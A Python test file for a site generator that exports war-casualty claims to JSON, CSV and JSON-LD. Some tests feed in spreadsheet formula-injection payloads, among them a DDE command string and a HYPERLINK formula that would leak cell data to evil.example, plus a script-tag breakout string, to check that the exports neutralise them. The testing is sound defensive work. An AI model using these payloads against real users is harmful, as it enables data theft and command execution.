"""claims.json (valid against its published schema), claims.csv (same columns), and JSON-LD on article pages."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re

import jsonschema
import pytest
import yaml
from helpers import CONFIG, VALID_FRONT, article, build_site, write_site
from series_site import real_builds, series_site

from site_gen.core.model import Article, Claim, Claimant, Source
from site_gen.core.quantities import parse_quantity
from site_gen.render.exports import COLUMNS, article_rows, claims_csv
from site_gen.render.jsonld import html_safe_json


@pytest.fixture(scope="module")
def real(tmp_path_factory):
    return real_builds(tmp_path_factory)


@pytest.fixture(scope="module")
def small(tmp_path_factory):
    root = tmp_path_factory.mktemp("small")
    build_site(series_site(root))
    out = root / "build"
    return {p: (out / p).read_bytes() for p in ("claims.json", "claims.csv", "claims.schema.json")}


def validator(files) -> jsonschema.Draft202012Validator:
    schema = json.loads(files["claims.schema.json"])
    jsonschema.Draft202012Validator.check_schema(schema)
    return jsonschema.Draft202012Validator(schema)


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_the_small_sites_claims_json_validates_in_full(small):
    document = json.loads(small["claims.json"])
    validator(small).validate(document)
    kinds = [r["kind"] for r in document["claims"]]
    assert kinds == ["claim"] + ["series_point"] * 10


def test_the_real_sites_claims_json_validates_against_the_published_schema(real):
    """The header and every claim in full; series points: every revision, each series' first and last, every 20th
    (jsonschema takes ~1 ms a record, and the 22,313 points come from one code path)."""
    document = json.loads(real.first_files["claims.json"])
    points = [r for r in document["claims"] if r["kind"] == "series_point"]
    claims = [r for r in document["claims"] if r["kind"] == "claim"]
    firsts_and_lasts = {i for i, r in enumerate(points) if i == 0 or points[i - 1]["series_id"] != r["series_id"]}
    firsts_and_lasts |= {i - 1 for i in firsts_and_lasts if i} | {len(points) - 1}
    sample = [r for i, r in enumerate(points) if i % 20 == 0 or i in firsts_and_lasts or r["findings"]]
    validator(real.first_files).validate({**document, "claims": claims + sample})
    assert len(points) == 22313 and len(claims) == 53
    assert sum(1 for r in points if r["findings"] == ["revision"]) == 13
    assert all(set(r) == set(COLUMNS) for r in points)


def test_every_record_is_attributed_and_keeps_its_wording(real):
    document = json.loads(real.first_files["claims.json"])
    for record in document["claims"]:
        assert record["claimant_name"] and record["status"] and record["status_label"] and record["sources"]
    point = next(r for r in document["claims"] if r["id"] == "ua-gs-personnel/personnel@2022-03-07")
    assert (point["wording"], point["display"], point["qualifier"], point["value"], point["low"], point["high"]) == (
        "more than 11000", ">11,000", "gt", 11000, 11001, None)  # the qualifier column's wording and the cell
    assert point["claimant_id"] == "ua-gs" and point["side"] == "Ukraine" and point["status"] == "unverifiable"
    assert point["period_start"] == "2022-02-24" and point["period_end"] == point["claimed_on"] == "2022-03-07"
    assert point["series_url"] == "https://example.org/series/ua-gs.html#ua-gs-personnel--personnel"
    seed = next(r for r in document["claims"] if r["id"] == "russia-claims-over-2000-killed-in-24-hours#daily-total")
    assert seed["wording"] == "over 2,000" and seed["display"] == ">2,000" and seed["findings"] == ["breakdown-sum"]
    assert [g["wording"] for g in seed["by_group"]] == ["475", "405", "120", "620", "320"]
    assert seed["article_url"].startswith("https://example.org/articles/")


def as_typed(figure: object) -> str:
    """A figure's wording as typed: the text itself, or the `as_worded` text of {as_worded, means, lang}."""
    return str(figure["as_worded"] if isinstance(figure, dict) else figure).strip()


def test_every_claims_wording_is_the_text_typed_in_its_article(real):
    """Verbatim (content model §7.1): `wording` of each claim and group is the YAML value as typed, trimmed."""
    typed = {}
    for path in sorted((real.root / "content" / "articles").glob("*.md")):
        front = yaml.safe_load(path.read_text("utf-8").split("\n---\n")[0].removeprefix("---\n"))
        for c in front.get("claims") or []:
            groups = [as_typed(v["value"] if "value" in v else v) if isinstance(v, dict) else as_typed(v)
                      for v in (c.get("by_group") or {}).values()]
            typed[(front["title"], c["id"])] = (as_typed(c["total"]) if "total" in c else None, groups)
    document = json.loads(real.first_files["claims.json"])
    exported = {(r["article_title"], r["id"].split("#")[1]): (r["wording"], [g["wording"] for g in r["by_group"]])
                for r in document["claims"] if r["kind"] == "claim"}
    assert exported == typed and len(typed) == 53


def test_claims_csv_has_one_row_per_claim_and_per_series_point_with_the_same_columns(real):
    document = json.loads(real.first_files["claims.json"])
    rows = csv_rows(real.first_files["claims.csv"])
    assert tuple(rows[0]) == COLUMNS == tuple(document["claims"][0])
    assert len(rows) - 1 == len(document["claims"]) == 53 + 22313
    assert [r[1] for r in rows[1:]] == [r["id"] for r in document["claims"]]


def test_csv_cells_are_the_json_values(small):
    document = json.loads(small["claims.json"])
    rows = csv_rows(small["claims.csv"])
    for record, row in zip(document["claims"], rows[1:]):
        for column, cell in zip(COLUMNS, row):
            value = record[column]
            if value is None:
                assert cell == ""
            elif isinstance(value, bool):
                assert cell == str(value).lower()
            elif isinstance(value, (list, dict)):
                assert json.loads(cell) == value
            elif isinstance(value, str) and value[:1] in FORMULA_FIRST:
                assert cell == "'" + value
            else:
                assert cell == str(value)


#: OWASP's list of first characters that make a spreadsheet run a cell as a formula.
FORMULA_FIRST = ("=", "+", "-", "@", "\t", "\r", "\n")

HOSTILE_CONFIG = CONFIG + """\
  evil: {name: "=cmd|' /C calc'!A0", side: "@SUM(1+1)", kind: "-2+3"}
"""
HOSTILE_FRONT = """\
title: "=1+1"
date: 2024-07-05
sources:
  - id: mod
    name: "+1 News"
    url: https://example.org/mod
    accessed: 2024-07-06
claims:
  - id: hyperlink
    claimant: evil
    measure: "@killed"
    subject: "-2+3"
    claimed_on: 2024-07-05
    text: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
    total: 5
    by_group: {"@SUM(A1:A9)": 2, "-2+3": 3}
    sources: [mod]
"""


def test_csv_text_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(tmp_path):
    """Issue 11, item 11: cells starting with =, +, -, @ were written as they are (formula injection)."""
    build_site(write_site(tmp_path, {"a.md": article(HOSTILE_FRONT)}, config=HOSTILE_CONFIG))
    rows = csv_rows((tmp_path / "build/claims.csv").read_bytes())
    records = json.loads((tmp_path / "build/claims.json").read_text(encoding="utf-8"))["claims"]
    [first] = [dict(zip(rows[0], row)) for row in rows[1:]]
    assert first["text"] == "\'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for details\")"
    assert (first["claimant_name"], first["side"]) == ("\'=cmd|\' /C calc\'!A0", "\'@SUM(1+1)")
    assert (first["measure"], first["subject"], first["article_title"]) == ("\'@killed", "\'-2+3", "\'=1+1")
    assert (first["value"], first["low"], first["high"]) == ("5", "5", "5")
    assert [g["group"] for g in json.loads(first["by_group"])] == ["@SUM(A1:A9)", "-2+3"]
    assert json.loads(first["sources"])[0]["name"] == "+1 News"
    assert not [c for row in rows for c in row if c.startswith(FORMULA_FIRST)]
    assert records[0]["text"].startswith("=HYPERLINK(") and records[0]["claimant_name"] == "=cmd|' /C calc'!A0"


def test_the_data_licence_is_published_and_referenced(real):
    document = json.loads(real.first_files["claims.json"])
    for dataset in document["datasets"]:
        assert dataset["license"] == "MIT License, Copyright (c) 2022 Petro Ivaniuk"
        path = dataset["license_notice"].removeprefix("https://example.org/")
        assert real.first_files[path].startswith(b"MIT License")


def jsonld_of(html: str) -> dict:
    [block] = re.findall(r'<script type="application/ld\+json">\n(.*?)\n</script>', html, re.S)
    return json.loads(block)


def test_article_pages_carry_a_claim_per_claim_and_a_review_only_for_verdicts(real):
    for path, data in real.first_files.items():
        if not path.startswith("articles/"):
            continue
        html = data.decode("utf-8")
        graph = jsonld_of(html)["@graph"]
        claims = [n for n in graph if n["@type"] == "Claim"]
        reviews = [n for n in graph if n["@type"] == "ClaimReview"]
        cards = re.findall(r'class="claim-card status-([a-z_]+)"', html)
        assert len(claims) == len(cards)
        assert len(reviews) == sum(s in ("corroborated", "partially_corroborated", "disputed", "refuted") for s in cards)
        for claim in claims:
            assert claim["author"]["name"] and claim["appearance"] and claim["@id"].startswith("https://example.org/")
        for review in reviews:
            assert review["reviewRating"]["alternateName"] and review["itemReviewed"]["@id"] in {c["@id"] for c in claims}


def test_the_seed_claim_json_ld_has_author_date_and_appearances(real):
    html = real.first_files["articles/russia-claims-over-2000-killed-in-24-hours.html"].decode("utf-8")
    [claim] = [n for n in jsonld_of(html)["@graph"] if n["@id"].endswith("#claim-daily-total")]
    assert claim["author"] == {"@type": "Organization", "name": "Russian Ministry of Defence",
                               "description": "side: Russia; kind: government"}
    assert claim["datePublished"] == "2024-07-01"
    assert "over 2,000 people killed" in claim["description"] and "not independently verified" in claim["description"]
    assert all(a["url"].startswith("http") for a in claim["appearance"])


def test_json_ld_cannot_break_out_of_its_script_element(tmp_path):
    front = VALID_FRONT.replace("text: over 2,000 killed in 24 hours", 'text: "over 2,000 </script><!-- & killed"')
    build_site(write_site(tmp_path, {"a.md": article(front)}))
    html = (tmp_path / "build/articles/a.html").read_text(encoding="utf-8")
    block = re.search(r'<script type="application/ld\+json">(.*?)</script>', html, re.S).group(1)
    assert "<" not in block and ">" not in block and "&" not in block
    assert jsonld_of(html)["@graph"][0]["text"] == "over 2,000 </script><!-- & killed"
    assert html_safe_json({"a": "<&>"}) == '{\n "a": "\\u003c\\u0026\\u003e"\n}'


@pytest.mark.parametrize("text", ["\tindented", "\r\nnew line", "\nnew line", "-5", "+1", "@SUM(A1)", "=1"])
def test_text_starting_with_any_formula_character_gets_an_apostrophe_in_csv_only(text):
    """Content fields are stripped of leading white space, but the export does not rely on that."""
    source = Source("mod", "https://example.org/mod", name=text)
    claim = Claim("c1", Claimant("ru-mod", text, text), text, (source,), measure=text, total=parse_quantity(5))
    page = Article(path="content/articles/a.md", slug="a", title=text, date=dt.datetime(2024, 7, 5, tzinfo=dt.timezone.utc),
                   body="", body_line=1, claims=(claim,))
    parts = [article_rows(page, "https://example.org/", ((),))]
    header, row = csv_rows(claims_csv(parts))
    cells = dict(zip(header, row))
    for column in ("claimant_name", "side", "measure", "text", "article_title"):
        assert cells[column] == "'" + text, column
    assert (cells["value"], cells["low"], cells["high"]) == ("5", "5", "5")
    assert json.loads(parts[0].json_lines[0])["text"] == text


# --- exports v2 (§9): unit, lang, caveat, wording/display, per claim and per breakdown entry --------------------

#: Columns whose CSV cells are JSON text, integers or booleans (every other cell is text; empty means null).
JSON_CELLS = {"by_group", "sources", "findings", "relayed_by", "superseded_by", "of_which"}
INT_CELLS, BOOL_CELLS = {"value", "low", "high"}, {"cumulative"}
#: Columns whose cells are a JSON object, or empty for null.
OBJECT_CELLS = {"retracted"}


def csv_records(data: bytes) -> list[dict]:
    """claims.csv read back into records shaped like claims.json's, so that the same schema can check them."""
    header, *rows = csv_rows(data)
    records = []
    for row in rows:
        record = {}
        for column, cell in zip(header, row):
            if column in JSON_CELLS:
                record[column] = json.loads(cell)
            elif column in OBJECT_CELLS:
                record[column] = json.loads(cell) if cell else None
            elif cell == "" and column != "text":
                record[column] = None
            elif column in INT_CELLS:
                record[column] = int(cell)
            elif column in BOOL_CELLS:
                record[column] = cell == "true"
            else:  # a text cell that a spreadsheet would read as a formula was given an apostrophe
                record[column] = cell[1:] if cell[:2] in {"'" + c for c in "=+-@\t\r\n"} else cell
        records.append(record)
    return records


@pytest.fixture(scope="module")
def every_field(tmp_path_factory):
    """A site whose claims use every v2 field: units (people, vehicles, percent), caveats on claims and entries,
    `lang` on claims and figures, `as_worded`, a site vocabulary."""
    from test_units import MIXED, VOCABULARIES

    from helpers import CONFIG

    root = tmp_path_factory.mktemp("every-field")
    build_site(write_site(root, {"mixed.md": article(MIXED)}, CONFIG + VOCABULARIES))
    return {p: (root / "build" / p).read_bytes() for p in ("claims.json", "claims.csv", "claims.schema.json")}


def test_a_site_using_every_new_field_validates_in_json_and_csv(every_field):
    document = json.loads(every_field["claims.json"])
    check = validator(every_field)
    check.validate(document)
    from_csv = csv_records(every_field["claims.csv"])
    assert from_csv == document["claims"]
    check.validate({**document, "claims": from_csv})
    used = {(k, bool(v)) for r in document["claims"] for k, v in r.items()}
    used |= {(f"by_group.{k}", bool(v)) for r in document["claims"] for g in r["by_group"] for k, v in g.items()}
    for field in ("unit", "lang", "wording_lang", "caveat", "wording", "display",
                  "by_group.unit", "by_group.lang", "by_group.caveat"):
        assert (field, True) in used, field


def test_the_schema_rejects_a_percentage_above_100_and_a_bad_lang(every_field):
    document = json.loads(every_field["claims.json"])
    share = next(r for r in document["claims"] if r["unit"] == "percent")
    check = validator(every_field)
    assert not list(check.iter_errors({**document, "claims": [share]}))
    for bad in ({"high": 101}, {"value": 170, "low": 171}, {"lang": "not a tag"}):
        assert list(check.iter_errors({**document, "claims": [{**share, **bad}]})), bad


def test_the_real_sites_claims_csv_validates_against_the_published_schema(real):
    """Claims in full, series points every 20th (as for claims.json)."""
    document = json.loads(real.first_files["claims.json"])
    records = csv_records(real.first_files["claims.csv"])
    sample = [r for i, r in enumerate(records) if r["kind"] == "claim" or i % 20 == 0]
    validator(real.first_files).validate({**document, "claims": sample})
    claims = [r for r in records if r["kind"] == "claim"]
    assert claims == [r for r in document["claims"] if r["kind"] == "claim"]
    assert {r["unit"] for r in claims} >= {"people"} and {r["lang"] for r in claims} == {"en", "pt"}
